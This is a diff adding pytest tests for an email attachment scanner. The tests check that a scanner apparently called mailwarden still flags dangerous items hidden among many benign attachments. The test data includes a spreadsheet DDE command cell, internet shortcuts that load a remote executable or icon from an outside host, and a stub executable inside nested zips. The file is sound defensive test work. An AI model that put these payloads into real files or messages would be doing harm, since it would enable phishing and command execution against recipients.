@@ -1,0 +1,60 @@
+"""Harmless things in front hide nothing behind them: neither in an archive nor among many attachments."""
+
+import email.policy
+import io
+import zipfile
+from collections.abc import Sequence
+from email.message import EmailMessage
+
+import pytest
+
+from mailwarden.analysis.examination import Job, examine
+from mailwarden.analysis.moderation import OF_A_KIND, few_of_each_kind
+from mailwarden.model.evidence import Finding
+
+PROGRAM = b"MZ" + bytes(200)
+LEADING = b"[InternetShortcut]\r\nURL=file://198.51.100.7/share/run.exe\r\n"
+
+
+def packed(files: Sequence[tuple[str, bytes]]) -> bytes:
+    made = io.BytesIO()
+    with zipfile.ZipFile(made, "w") as archive:
+        for name, content in files:
+            archive.writestr(name, content)
+    return made.getvalue()
+
+
+def found(files: Sequence[tuple[str, bytes]]) -> set[str]:
+    message = EmailMessage()
+    message["From"], message["Subject"] = "ada@north.example", "papers"
+    message.set_content("Here are the papers that we spoke of on Thursday.")
+    for name, content in files:
+        message.add_attachment(content, maintype="application", subtype="octet-stream", filename=name)
+    frames = examine(Job(message.as_bytes(policy=email.policy.SMTP)))
+    return {finding.name for frame in frames for finding in frame.report.findings}
+
+
+def test_archives_in_an_archive_hide_no_program():
+    inner = packed([("note.txt", b"hello")])
+    many = [(f"{number}.zip", inner) for number in range(30)]
+    assert "attachments.executable-in-archive" in found([("all.zip", packed([*many, ("plan.exe", PROGRAM)]))])
+
+
+def test_shortcuts_that_greet_a_server_hide_none_that_loads_from_one():
+    greeting = b"[InternetShortcut]\r\nURL=https://www.example/\r\nIconFile=\\\\198.51.100.7\\share\\a.ico\r\n"
+    many = [(f"{number}.url", greeting) for number in range(20)]
+    assert found(many) >= {"shortcuts.greeting"}
+    assert found([*many, ("last.url", LEADING)]) >= {"shortcuts.greeting", "shortcuts.remote-file"}
+
+
+def test_tables_that_reach_out_hide_no_command():
+    tables = [(f"{number}.csv", b'a,b\r\n=WEBSERVICE("https://www.example/"),1\r\n') for number in range(40)]
+    assert "office.dde" in found([*tables, ("last.csv", b"a,b\r\n=cmd|'/c calc'!A0,1\r\n")])
+
+
+@pytest.mark.parametrize("number", [1, 4, 5, 100])
+def test_of_each_kind_a_few_are_told(number: int):
+    findings = [Finding("tested.a")] * number + [Finding("tested.b")]
+    told = [finding.name for finding in few_of_each_kind(findings)]
+    assert told.count("tested.a") == min(number, OF_A_KIND)
+    assert told[-1] == "tested.b"
